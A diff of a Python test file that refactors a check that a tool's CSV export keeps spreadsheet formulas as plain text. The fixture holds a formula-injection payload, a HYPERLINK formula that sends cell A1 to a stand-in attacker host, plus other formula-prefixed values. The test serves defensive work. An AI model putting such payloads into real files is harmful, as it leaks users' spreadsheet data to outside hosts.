@@ -426,19 +426,15 @@ def test_a_record_that_would_garble_the_terminal_is_reported_escaped(run, seeded
 
 
 def test_csv_export_read_back_holds_formulas_as_text(run, seeded):
-    with Session(seeded) as session:
-        catalogue.upsert(
-            session,
-            factories.record(
-                slug="formula-group",
-                name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
-                alternate_names=["@SUM(A1:A9)", "+1"],
-                description="-2+3 people write letters to people held in prison.",
-                longitude=-4.25,
-                latitude=55.86,
-            ),
-        )
-        session.commit()
+    factories.store(
+        seeded,
+        slug="formula-group",
+        name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        alternate_names=["@SUM(A1:A9)", "+1"],
+        description="-2+3 people write letters to people held in prison.",
+        longitude=-4.25,
+        latitude=55.86,
+    )
     result = run("export", "--format", "csv")
     assert result.exit_code == 0
     header, *rows = csv.reader(io.StringIO(result.stdout, newline=""))
